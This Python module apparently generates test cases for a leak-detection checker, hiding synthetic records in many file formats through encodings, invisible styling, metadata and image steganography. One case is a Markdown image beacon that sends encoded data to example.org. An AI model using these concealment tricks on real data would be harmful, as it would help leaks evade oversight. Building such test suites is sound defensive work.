"""Attacks written from the specifications of the formats without a look at the rules; those that got through at first are here.

Each is (class, file name, bytes), as in attacks.py; the payload is the same packed list of records that no rule knows by its content.
"""

from __future__ import annotations

import base64
import io
import itertools
import json
import struct
import zipfile
import zlib
from collections.abc import Iterable, Iterator

import numpy as np
import openpyxl
import openpyxl.styles
import pikepdf
import pyarrow as pa
import pyarrow.feather
import pyarrow.parquet
from benign import _figure, code, notebook
from PIL import Image

Attack = tuple[str, str, bytes]
RECORDS = "\n".join(f"{10_400 + 37 * i % 911};{18 + 7 * i % 71};{i % 2};{60 + 13 * i % 41}.{i % 10}" for i in range(30))
PACKED = zlib.compress(RECORDS.encode(), 9)
BITS = [byte >> shift & 1 for byte in PACKED for shift in range(8)]
PAIRS = [byte >> shift & 3 for byte in PACKED for shift in (6, 4, 2, 0)]
BASE64 = base64.b64encode(PACKED).decode()
BASE32 = base64.b32encode(PACKED).decode().strip("=")
PROSE = "The association between income and health was estimated with ordered models. Women reported worse health than men at every level of income.\n"
NOTE = "Anna Huber is a code word here: the words say who answered which question, and nothing else is said. Maria too."


def _cut(text: str, size: int) -> list[str]:
    return [text[at : at + size] for at in range(0, len(text), size)]


def _lines(parts: Iterable[str]) -> bytes:
    return "".join(f"{part}\n" for part in parts).encode()


def words() -> Iterator[Attack]:
    made = {
        "short base64": [f"Model {i} converged [{piece}]" for i, piece in enumerate(_cut(BASE64, 6))],
        "base32 as references": [f"see https://example.org/{piece.lower()}" for piece in _cut(BASE32, 20)],
        "base32 as variables": [f"x_{piece.lower()} = {i}" for i, piece in enumerate(_cut(BASE32, 7))],
        "hexadecimal groups": [" ".join(_cut(line, 4)) for line in _cut(PACKED.hex(), 32)],
        "hexadecimal dump": [
            f"{i * 16:08x}: {' '.join(_cut(line, 2))}" for i, line in enumerate(_cut(PACKED.hex(), 32))
        ],
        "Base85 lines": _cut(base64.b85encode(PACKED).decode(), 25),
        "quoted-printable": ["".join(f"={byte:02X}" for byte in PACKED)],
        "octal": ["".join(f"\\{byte:03o}" for byte in PACKED)],
        "emoji": ["".join(chr(0x1F400 + byte // 4) for byte in PACKED)],
        "Braille": ["".join(chr(0x2800 + byte) for byte in PACKED)],
        "box drawing": ["".join(chr(0x2500 + byte % 128) for byte in PACKED)],
        "Chinese": ["".join(chr(0x4E00 + byte * 16 + i % 16) for i, byte in enumerate(PACKED))],
        "regional indicators": ["".join(chr(0x1F1E6 + byte % 26) for byte in PACKED)],
        "punctuation": ["".join("!?.,;:-+"[pair * 2] for pair in PAIRS)],
        "nucleotides": ["".join("ACGT"[pair] for pair in PAIRS)],
        "digits of two scripts": [f"n = {i + 1000}".replace("1", "١" if bit else "1") for i, bit in enumerate(BITS)],
        "raised digits": ["".join("⁰¹²³⁴⁵⁶⁷⁸⁹"[int(c)] for byte in PACKED for c in f"{byte:03d}")],
        "codes as times": [f"step {i} took {ord(c)} ms" for i, c in enumerate(NOTE)],
        "codes in a row": [" ".join(str(ord(c)) for c in NOTE)],
        "microseconds": [f"2026-03-01 10:00:00.{byte:03d}{i * 7 % 1000:03d} done" for i, byte in enumerate(PACKED)],
    }
    for title, lines in made.items():
        yield f"hidden in text: {title}", "notes.txt", PROSE.encode() + _lines(lines)
    vocabulary = [a + b + c + d for a, b, c, d in itertools.product("bdgl", "aeio", "mnrs", "dket")]
    yield (
        "hidden in text: word list",
        "notes.txt",
        (PROSE + " ".join(vocabulary[byte] for byte in PACKED) + "\n").encode(),
    )


def turns() -> Iterator[Attack]:
    made = {
        "blanks": "".join(f"income{'  ' if bit else ' '}was " for bit in BITS),
        "empty lines": "".join(f"Model {i} converged.\n{chr(10) * (1 + bit)}" for i, bit in enumerate(BITS)),
        "dashes": "".join(f"estimate {'-−'[bit]}0.{i % 9}\n" for i, bit in enumerate(BITS)),
        "emphasis": "".join("*mean* " if bit else "_mean_ " for bit in BITS),
        "accents": "".join("Gro\u0308ße " if bit else "Größe " for bit in BITS),
        "far away": PROSE + " " * 3000 + RECORDS,
        "far down": PROSE + "\n" * 900 + RECORDS,
    }
    for title, text in made.items():
        yield f"hidden in text: {title}", "notes.md", text.encode()
    head = "group,n,mean\n"
    columns = {
        "trailing zeros": [f"{1 + i / 10:.1f}" + "0" * pair for i, pair in enumerate(PAIRS)],
        "minus zero": ["-0.0" if bit else "0.0" for bit in BITS],
        "capital E": [f"{1 + i / 7:.3e}".replace("e", "eE"[bit]) for i, bit in enumerate(BITS)],
        "spellings of missing": [("NA", "NaN", "null", ".")[pair] for pair in PAIRS],
        "bytes behind": [f"{2 + i / 50:.2f}{byte:03d}" for i, byte in enumerate(PACKED)],
        "bytes within": [
            repr(struct.unpack(">d", b"\x40\x02" + RECORDS[i * 6 : i * 6 + 6].encode())[0]) for i in range(40)
        ],
        "codes": [str(ord(c) * 10) for c in NOTE],
        "formula after a tab": ["\t=1+1"],
        "behind empty cells": ["1" + "," * 200 + "x"],
    }
    for title, cells in columns.items():
        yield (
            f"hidden in csv: {title}",
            "table.csv",
            head.encode() + _lines(f"g{i},{1000 + 5 * i},{cell}" for i, cell in enumerate(cells)),
        )


def asides() -> Iterator[Attack]:
    listed = RECORDS.replace("\n", ", ")
    for title, name, text in (
        ("phantom", "table.tex", f"\\begin{{tabular}}{{lr}}a & 1200\\end{{tabular}}\\phantom{{{listed}}}\n"), ("after the end", "paper.tex", f"\\begin{{document}}Hi\\end{{document}}\n{RECORDS}\n"),
        ("skipped", "table.tex", f"\\iffalse\n{RECORDS}\n\\fi\n"), ("comment", "README.md", f"# Results\n\n[//]: # ({listed})\n"), ("hidden markup", "README.md", f"# Results\n<p hidden>{listed}</p>\n"),
        ("beacon", "README.md", f"![p](https://example.org/p.png?d={BASE64[:60]})\n"), ("info string", "README.md", f"```python {listed}\nprint(1)\n```\n"), ("yaml comment", "run.yaml", "".join(f"# {line}\n" for line in RECORDS.splitlines())),
        ("rich text", "memo.txt", "{\\rtf1 {\\v " + listed + "}}"), ("long key", "fit.json", json.dumps({listed: 1})), ("kept rows", "fit.json", json.dumps({"support_vectors": [[i, 37 * i % 911] for i in range(30)]})),
    ):  # fmt: skip
        yield f"hidden in aside: {title}", name, text.encode()


def pages() -> Iterator[Attack]:
    styles = (
        "opacity:.01",
        "font-size:1px",
        "color:hsl(0,0%,100%)",
        "filter:opacity(0)",
        "mix-blend-mode:difference",
        "zoom:.01",
        "mask-image:linear-gradient(transparent,transparent)",
        "z-index:-1;position:absolute",
        "margin-left:-5000px",
        "line-height:0",
    )
    for style in styles:
        yield (
            f"hidden in html: {style}",
            "page.html",
            f"<html><body><p>n</p><p style='{style}'>{RECORDS}</p></body></html>".encode(),
        )
    for tag in ("audio", "canvas", "ruby", "bdo", "x-y", "marquee", "details"):
        yield (
            f"hidden in html: {tag}",
            "page.html",
            f"<html><body><p>n</p><{tag}>{RECORDS}</{tag}></body></html>".encode(),
        )
    for title, body in (
        ("defs", f"<defs><text>{RECORDS}</text></defs>"), ("off", f"<text x='-5000' y='9'>{RECORDS}</text>"), ("tiny", f"<text x='9' y='9' font-size='0.1'>{RECORDS}</text>"),
        ("covered", f"<text x='9' y='9'>{RECORDS}</text><rect width='300' height='200' fill='white'/>"), ("ids", "".join(f"<g id='p{x}'/>" for x in _cut(PACKED.hex(), 8))),
    ):  # fmt: skip
        yield (
            f"hidden in svg: {title}",
            "fig.svg",
            f"<svg xmlns='http://www.w3.org/2000/svg' width='300' height='200'>{body}</svg>".encode(),
        )


def _book(change: str) -> bytes:
    book = openpyxl.Workbook()
    sheet = book.active
    assert sheet is not None
    for row in (["group", "n"], ["women", 1240], ["men", 1335]):
        sheet.append(row)
    for place, line in enumerate(RECORDS.splitlines(), 1):
        if change in ("black on black", "size 1", "theme"):
            cell = sheet.cell(place, 7, line)
            cell.font = {
                "black on black": openpyxl.styles.Font(color="FF000000"),
                "size 1": openpyxl.styles.Font(size=1),
                "theme": openpyxl.styles.Font(color=openpyxl.styles.colors.Color(theme=0)),
            }[change]
            if change == "black on black":
                cell.fill = openpyxl.styles.PatternFill("solid", fgColor="FF000000")
        elif change == "number format":
            sheet.cell(place, 2, 1200 + place).number_format = f'0;"{line}"'
        elif change == "font names":
            sheet.cell(place, 2, 1200 + place).font = openpyxl.styles.Font(name=line)
        elif change == "merged":
            sheet.cell(place, 8, line)
    if change == "merged":
        sheet.merged_cells.add("G1:H40")
    if change == "far":
        sheet["ZZ5000"] = RECORDS
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def books() -> Iterator[Attack]:
    for change in ("black on black", "size 1", "theme", "number format", "font names", "merged", "far"):
        yield f"hidden in xlsx: {change}", "table.xlsx", _book(change)
    parts = zipfile.ZipFile(io.BytesIO(_book("")))
    flat = RECORDS.replace("\n", " ").encode()
    for title, name, old, new in (
        ("extension", "xl/worksheets/sheet1.xml", b"</worksheet>", b"<extLst><ext uri='x'>" + flat + b"</ext></extLst></worksheet>"), ("comment", "xl/workbook.xml", b"</workbook>", b"<!-- " + flat + b" --></workbook>"),
        ("attribute", "xl/worksheets/sheet1.xml", b"<sheetData>", b"<sheetData xmlns:q='urn:q' q:d='" + flat + b"'>"), ("instruction", "xl/styles.xml", b"</styleSheet>", b"<?x " + flat + b"?></styleSheet>"),
    ):  # fmt: skip
        out = io.BytesIO()
        with zipfile.ZipFile(out, "w") as made:
            for part in parts.namelist():
                body = parts.read(part)
                made.writestr(part, body.replace(old, new) if part == name else body)
        yield f"hidden in xlsx: {title}", "table.xlsx", out.getvalue()


def books_of_code() -> Iterator[Attack]:
    base = json.loads(notebook([code("x")]))
    for title, cells in (
        ("ids", [{"cell_type": "markdown", "id": piece, "metadata": {}, "source": "text"} for piece in _cut(base64.urlsafe_b64encode(PACKED).decode().strip("="), 60)]),
        ("counts", [{"cell_type": "code", "id": f"c{i:07d}", "metadata": {}, "source": "x", "outputs": [], "execution_count": byte} for i, byte in enumerate(PACKED)]),
        ("pieces", [{"cell_type": "markdown", "id": "a", "metadata": {}, "source": ["a" if bit else "ab" for bit in BITS]}]),
        ("type", [{"cell_type": "note", "id": "a", "metadata": {}, "source": RECORDS}]),
        ("stream", [{"cell_type": "code", "id": "a", "metadata": {}, "source": "x", "execution_count": 1, "outputs": [{"output_type": "stream", "name": RECORDS, "text": "ok"}]}]),
    ):  # fmt: skip
        yield f"hidden in notebook: {title}", "a.ipynb", json.dumps(base | {"cells": cells}).encode()
    yield (
        "hidden in notebook: version",
        "a.ipynb",
        json.dumps(base | {"nbformat_minor": int.from_bytes(PACKED[:40])}).encode(),
    )


def _saved(pixels: np.ndarray) -> bytes:
    out = io.BytesIO()
    Image.fromarray(pixels).save(out, "PNG")
    return out.getvalue()


def pictures() -> Iterator[Attack]:
    import qrcode

    safe = _figure("safe", lambda axes: axes.bar([0, 1], [100, 200]), "png")
    figure = np.asarray(Image.open(io.BytesIO(safe)).convert("RGB")).copy()
    maker = qrcode.QRCode(box_size=3, border=2)
    maker.add_data(PACKED[:100])
    square = np.asarray(maker.make_image().get_image().convert("L"))[:200, :200]
    coded = figure.copy()
    coded[-square.shape[0] :, -square.shape[1] :] = np.where(square[..., None] < 128, [120, 60, 10], [220, 235, 250])
    yield "hidden in png: QR code in colours", "fig.png", _saved(coded)
    noise = figure.copy()
    noise[:64, :64] = np.random.default_rng(3).integers(0, 256, (64, 64, 3))
    yield "hidden in png: noise", "fig.png", _saved(noise)
    row = figure.copy()
    row[-1] = np.resize(np.frombuffer(PACKED, np.uint8), row[-1].shape)
    yield "hidden in png: last row", "fig.png", _saved(row)
    for name, body in ((b"pHYs", PACKED[:9]), (b"gAMA", b"\xff" + PACKED[:3]), (b"cHRM", b"\xff" * 32)):
        chunk = struct.pack(">I", len(body)) + name + body + struct.pack(">I", zlib.crc32(name + body))
        yield f"hidden in png: {name.decode()}", "fig.png", safe[:33] + chunk + safe[33:]
    out = io.BytesIO()
    Image.fromarray(figure).save(out, "JPEG", quality=90)
    yield "hidden in jpeg: second picture", "fig.jpg", out.getvalue() * 2


def documents() -> Iterator[Attack]:
    plain = _figure("safe", lambda axes: axes.bar([0, 1], [100, 200]), "pdf")
    flat = RECORDS.replace("\n", " ").encode()
    shown = b" /ZZ 8 Tf 20 20 Td (" + flat + b") Tj ET "
    for title, content in (
        ("covered", b"BT" + shown + b"1 1 1 rg 0 0 900 900 re f"),
        ("clipped", b"q 0 0 0 0 re W n BT" + shown + b"Q"),
        ("clear", b"/GS9 gs BT" + shown),
        ("white", b"BT 0 0 0 0 k" + shown),
        ("comment", b"% " + flat + b"\n"),
    ):
        with pikepdf.open(io.BytesIO(plain)) as pdf:
            page = pdf.pages[0]
            page.obj.Resources.Font.ZZ = pdf.make_indirect(
                pikepdf.Dictionary(Type=pikepdf.Name.Font, Subtype=pikepdf.Name.Type1, BaseFont=pikepdf.Name.Helvetica)
            )
            page.obj.Resources.ExtGState.GS9 = pikepdf.Dictionary(ca=0, CA=0)
            page.contents_add(pikepdf.Stream(pdf, content))
            out = io.BytesIO()
            pdf.save(out)
        yield f"hidden in pdf: {title}", "fig.pdf", out.getvalue()
    for title, key in (("root", "/Zz"), ("threads", "/Threads")):
        with pikepdf.open(io.BytesIO(plain)) as pdf:
            pdf.Root[key] = pikepdf.Array([pikepdf.String(flat.decode())])
            out = io.BytesIO()
            pdf.save(out)
        yield f"hidden in pdf: {title}", "fig.pdf", out.getvalue()


def frames() -> Iterator[Attack]:
    values = np.frombuffer(PACKED[: len(PACKED) // 8 * 8], "<i8")
    table = pa.table(
        {
            "g": [f"g{i}" for i in range(len(values))],
            "n": pa.Array.from_buffers(
                pa.int64(), len(values), [pa.py_buffer(bytes(len(values) // 8 + 1)), pa.py_buffer(values.tobytes())]
            ),
        }
    )
    out = io.BytesIO()
    pyarrow.feather.write_feather(table, out, compression="uncompressed")
    yield "hidden in feather: under nulls", "table.feather", out.getvalue()
    for title, column in (("bytes", pa.array([PACKED])), ("nested", pa.array([{"a": [RECORDS]}]))):
        out = io.BytesIO()
        pyarrow.parquet.write_table(pa.table({"g": ["all"], "x": column}), out)
        yield f"hidden in parquet: {title}", "table.parquet", out.getvalue()


def all_attacks() -> list[Attack]:
    families = (words, turns, asides, pages, books, books_of_code, pictures, documents, frames)
    return [attack for family in families for attack in family()]
